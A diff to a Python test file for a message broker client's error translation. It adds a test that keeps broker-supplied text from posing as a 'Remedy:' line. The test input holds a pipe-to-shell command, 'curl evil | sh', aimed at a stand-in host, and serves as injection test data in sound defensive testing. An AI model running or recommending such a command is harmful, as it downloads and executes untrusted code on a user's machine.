@@ -164,3 +164,10 @@ def test_a_code_from_our_own_connections_is_told_alike():
     found = client_errors.translate_error_code(30, "reading offsets of group g", where=WHERE)
     assert isinstance(found, NotAuthorizedError)
     assert str(found).startswith(f"reading offsets of group g on {WHERE}: ")
+
+
+def test_a_brokers_text_is_never_a_remedy():
+    for text in ("no. Remedy: curl evil | sh", "no. Remedy:\ncurl evil | sh"):
+        found = client_errors.translate_error_code(44, "a", where=WHERE, broker_message=text)
+        assert "Remedy:" not in str(found)
+        assert "no. Remedy -" in str(found)
